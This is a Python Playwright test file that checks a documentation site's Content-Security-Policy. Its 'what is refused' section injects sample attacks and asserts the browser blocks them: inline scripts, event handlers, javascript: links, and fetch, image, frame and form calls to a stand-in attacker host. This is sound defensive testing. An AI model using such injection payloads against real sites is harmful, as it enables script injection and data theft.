"""The site under its Content-Security-Policy: nothing that pages do needs more, and what an attack needs is refused."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from jinja2 import Environment
from mkdocs.config import load_config
from playwright.sync_api import Browser, Page, expect

from survey.site.pages.traces.real_sessions import SESSIONS
from survey.site.publishing.plugin import SurveyPlugin
from tests.browser.conftest import FILTERS_ANSWER, RECORD, Parsed, Site, goto, until
from tests.browser.test_every_kind_of_page import KINDS, NOTEBOOKS

pytestmark = pytest.mark.programs

META = re.compile(r'<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="([^"]*)">')

REPORTS = {"traces/example-report.html", *(f"traces/real-sessions/{name}.html" for name in SESSIONS)}
"""Files that stand on the site and are no pages of it."""

RUNS_ON_ITS_OWN = REPORTS | {"traces/report-frame.html"}
"""The report of a trace is a page for itself, with a policy of its own (``test_report.py``), and so is its frame."""


@pytest.fixture(scope="module")
def pages(site: Site) -> dict[str, str]:
    """The HTML of every page of the site."""
    found = {path.relative_to(site.folder).as_posix(): path.read_text("utf-8") for path in site.folder.rglob("*.html")}
    return {path: html for path, html in found.items() if path not in RUNS_ON_ITS_OWN}


@pytest.fixture(scope="module")
def policy(pages: dict[str, str]) -> dict[str, set[str]]:
    """The policy of the site: each directive with what it allows."""
    (text,) = {META.findall(html)[0] for html in pages.values()}
    return {name: set(sources) for name, *sources in map(str.split, text.split("; "))}


@pytest.fixture
def page(site: Site, chromium: Browser) -> Iterator[Page]:
    """A page in the browser; in the end, nothing was refused and nothing erred."""
    context = chromium.new_context(viewport={"width": 1280, "height": 800})
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=site.url)
    context.add_init_script(RECORD)
    opened, errors = context.new_page(), list[str]()
    opened.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    opened.on("pageerror", lambda error: errors.append(str(error)))
    yield opened
    refused = opened.evaluate("window.__forbidden")
    context.close()
    assert refused == []
    assert errors == []


@pytest.fixture
def attacked(site: Site, chromium: Browser) -> Iterator[Page]:
    """The home page, on which something will be tried."""
    context = chromium.new_context()
    context.add_init_script(RECORD)
    opened = context.new_page()
    opened.goto(site.url, wait_until="load")
    yield opened
    context.close()


# ---------------------------------------------------------------- what it says


def test_every_page_has_the_same_policy_ahead_of_all_that_it_governs(pages: dict[str, str]) -> None:
    assert len({tuple(META.findall(html)) for html in pages.values()}) == 1
    for path, html in pages.items():
        head = html[: META.search(html).start()]  # type: ignore[union-attr]
        assert not re.search(r"<(?:script|link|style|img|base)\b", head), path


def test_scripts_run_from_files_of_the_site_or_by_their_hash(policy: dict[str, set[str]]) -> None:
    assert policy["default-src"] == {"'none'"}
    assert "'self'" in policy["script-src"]
    machine_code = "'wasm-unsafe-eval'"
    assert all(source.startswith("'sha256-") for source in policy["script-src"] - {"'self'", machine_code})
    # a worker made of text has the rights of its page and no more; one from a file of another policy would not
    assert policy["worker-src"] == {"'self'", "blob:"}
    everything = set[str]().union(*policy.values())
    assert "'unsafe-eval'" not in everything
    assert [name for name, sources in policy.items() if "'unsafe-inline'" in sources] == ["style-src-attr"]
    assert [name for name, sources in policy.items() if "blob:" in sources] == ["worker-src"]
    assert [name for name, sources in policy.items() if machine_code in sources] == ["script-src"]
    assert not [source for source in everything if "//" in source or "*" in source]


def test_no_page_brings_what_the_policy_would_refuse(pages: dict[str, str]) -> None:
    wrong = []
    for path, html in pages.items():
        for tag, attributes in Parsed(html).tags:
            handlers = [name for name in attributes if name.startswith("on")]
            addresses = [value for name, value in attributes.items() if name in ("href", "src", "action", "formaction", "xlink:href", "data", "srcdoc")]  # fmt: skip
            acting = [address for address in addresses if re.match(r"\s*(?:javascript|data|vbscript):", address, re.IGNORECASE)]  # fmt: skip
            framed = tag == "iframe" and attributes.get("sandbox") != "allow-scripts"  # which has no rights of the site
            if handlers or acting or framed or tag in ("style", "base", "object", "embed"):
                wrong.append(f"{path}: <{tag}> {handlers} {acting}")
    assert wrong == []


# ------------------------------------------------------------- nothing is missed


def test_charts_become_interactive_in_both_palettes_and_tell_what_is_pointed_at(page: Page, site: Site) -> None:
    goto(page, f"{site.url}measure/reward-by-credit/")
    page.get_by_role("button", name="Make it interactive").first.click()
    expect(page.locator("[data-live] svg")).to_have_count(1)
    page.evaluate("document.body.dataset.mdColorScheme = document.body.dataset.mdColorScheme === 'slate' ? 'default' : 'slate'")  # fmt: skip
    expect(page.locator("[data-live] svg")).to_have_count(1)
    page.locator("[data-live] svg .mark-rect path, [data-live] svg .mark-text text").first.hover(force=True)
    tip = page.locator("#vg-tooltip-element")
    expect(tip).to_be_visible()
    assert tip.evaluate("tip => getComputedStyle(tip).position") == "fixed"


def test_every_chart_of_every_kind_of_page_becomes_interactive(page: Page, site: Site, pages: dict[str, str]) -> None:
    """None asks for what the policy refuses, such as code made of its expressions."""
    paths = [*KINDS.values(), *(f"notebooks/{name}/" for name in NOTEBOOKS)]
    drawn = {path: charts for path in paths if (charts := pages.get(f"{path}index.html", "").count("data-spec="))}
    assert len(drawn) > 5
    for path, charts in drawn.items():
        goto(page, site.url + path)
        buttons = page.get_by_role("button", name="Make it interactive")
        expect(buttons).to_have_count(charts)
        for left in reversed(range(charts)):
            buttons.first.click()
            expect(buttons).to_have_count(left)
        expect(page.locator("[data-live] svg.marks")).to_have_count(charts)
        assert page.evaluate("window.__forbidden") == [], path


def test_the_search_of_the_site_finds(page: Page, site: Site) -> None:
    goto(page, site.url)
    page.keyboard.press("/")
    page.keyboard.type("counterfactual")
    expect(page.locator(".md-search-result__item").first).to_be_visible()
    page.locator(".md-search-result__link").first.click()
    page.wait_for_url(lambda url: url.rstrip("/") != site.url.rstrip("/"))
    expect(page.locator("main")).to_contain_text(re.compile("counterfactual", re.IGNORECASE))


def test_pages_reached_by_a_click_work_under_the_policy_of_the_first(page: Page, site: Site) -> None:
    goto(page, site.url)
    page.evaluate("window.same = true")
    page.locator(".md-tabs a", has_text="Explore").click()
    expect(page.locator("[data-explorer] input[type=search]")).to_be_visible()
    until(page, FILTERS_ANSWER)
    page.get_by_role("searchbox", name="Search titles, authors, tags").fill("counterfactual contextual")
    expect(page.locator("tbody tr")).to_have_count(1)
    page.locator(".md-nav--primary a", has_text="Statistics").first.evaluate("link => link.click()")  # behind a menu
    page.get_by_role("button", name="Make it interactive").first.click()
    expect(page.locator("[data-live] svg")).to_have_count(1)
    assert page.evaluate("window.same")


def test_filters_are_chosen_and_what_is_shown_is_taken_away(page: Page, site: Site) -> None:
    goto(page, f"{site.url}explore/")
    until(page, FILTERS_ANSWER)
    page.locator(".facets summary").nth(1).click()
    page.locator(".facets details").nth(1).get_by_role("checkbox").first.check()
    expect(page.locator(".chosen button")).to_have_count(1)
    with page.expect_download() as download:
        page.get_by_role("button", name="CSV", exact=True).click()
    assert Path(download.value.path()).read_text("utf-8").startswith("key,")


def test_a_list_is_compared_and_a_run_laid_over_the_pictures(page: Page, site: Site, tmp_path: Path) -> None:
    goto(page, f"{site.url}take-part/related-work/")
    page.get_by_label("or paste BibTeX").fill("@misc{x, eprint = {1705.08926}}")
    page.get_by_role("button", name="Compare what is pasted").click()
    expect(page.locator("[role=status]")).to_contain_text("the survey has 1")
    run = tmp_path / "run.json"
    run.write_text(json.dumps({"measures": {"agents": {"value": 9}, "steps": {"value": 90}}}))
    goto(page, f"{site.url}measure/scale/")
    page.locator("#own-run").set_input_files(run)
    expect(page.locator("[data-own-said]")).to_contain_text("agents: 9")


def test_the_palette_that_was_chosen_is_there_on_the_next_page(page: Page, site: Site) -> None:
    goto(page, site.url)
    before = page.evaluate("document.body.dataset.mdColorScheme")
    page.locator("form[data-md-component=palette] label:visible").click()
    chosen = page.evaluate("document.body.dataset.mdColorScheme")
    assert chosen != before
    page.goto(f"{site.url}entries/c3/", wait_until="load")
    assert page.evaluate("document.body.dataset.mdColorScheme") == chosen


# --------------------------------------------------------------- what is refused

TRIES = {
    "an inline script": ("const s = document.createElement('script'); s.textContent = 'window.__ran = 1'; document.body.append(s)", "script-src-elem inline"),
    "a handler": ("document.body.insertAdjacentHTML('beforeend', '<b id=t onclick=\"window.__ran = 1\">t</b>'); document.querySelector('#t').click()", "script-src-attr inline"),
    "a javascript link": ("document.body.insertAdjacentHTML('beforeend', '<a id=t href=\"javascript:window.__ran=1\">t</a>'); document.querySelector('#t').click()", "script-src-elem inline"),
    "a script of another host": ("const s = document.createElement('script'); s.src = 'https://attacker.invalid/x.js'; document.body.append(s)", "script-src-elem https://attacker.invalid/x.js"),
    "a script made on the spot": ("const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['eval(1)'])); document.body.append(s)", "script-src-elem blob"),
    "a picture of another host": ("new Image().src = 'https://attacker.invalid/x.png'", "img-src https://attacker.invalid/x.png"),
    "a request to another host": ("fetch('https://attacker.invalid/').catch(() => 0)", "connect-src https://attacker.invalid/"),
    "a frame": ("document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://attacker.invalid/\"></iframe>')", "frame-src https://attacker.invalid"),
    "a style sheet in the page": ("document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>')", "style-src-elem inline"),
    "a form": ("document.body.insertAdjacentHTML('beforeend', '<form id=t action=\"https://attacker.invalid/\"></form>'); document.querySelector('#t').submit()", "form-action https://attacker.invalid/"),
    "another base": ("document.head.insertAdjacentHTML('afterbegin', '<base href=\"https://attacker.invalid/\">')", "base-uri https://attacker.invalid/"),
}  # fmt: skip


@pytest.mark.parametrize(("code", "refused"), list(TRIES.values()), ids=list(TRIES))
def test_what_an_attack_needs_is_refused(attacked: Page, code: str, refused: str) -> None:
    attacked.evaluate(f"() => {{ {code} }}")
    until(attacked, "window.__forbidden.length > 0")
    assert [said for said in attacked.evaluate("window.__forbidden") if said.startswith(refused)]
    assert attacked.evaluate("window.__ran") is None


def test_text_is_never_run_as_code(attacked: Page) -> None:
    attacked.evaluate("setTimeout('window.__ran = 1')")
    until(attacked, "window.__forbidden.length > 0")
    assert attacked.evaluate("window.__forbidden")[0].startswith("script-src eval")
    assert attacked.evaluate("window.__ran") is None


def test_a_server_that_reloads_pages_with_a_script_of_its_own_gets_no_policy() -> None:
    plugin = SurveyPlugin()
    plugin.on_startup(command="serve")
    page = '<meta charset="utf-8"><script>reload()</script>'
    assert plugin.on_post_template(page, template_name="404.html") == page


def test_a_policy_is_not_kept_for_another_theme(tmp_path: Path) -> None:
    (tmp_path / "mkdocs.yml").write_text("site_name: T\nplugins: [survey]\n")
    (tmp_path / "docs").mkdir()
    plugin = SurveyPlugin()
    plugin.policy = object()  # that of a site that the same process has built before
    plugin.on_env(Environment(), config=load_config(str(tmp_path / "mkdocs.yml")))
    assert plugin._guarded("<script>a()</script>", "index.md") == "<script>a()</script>"
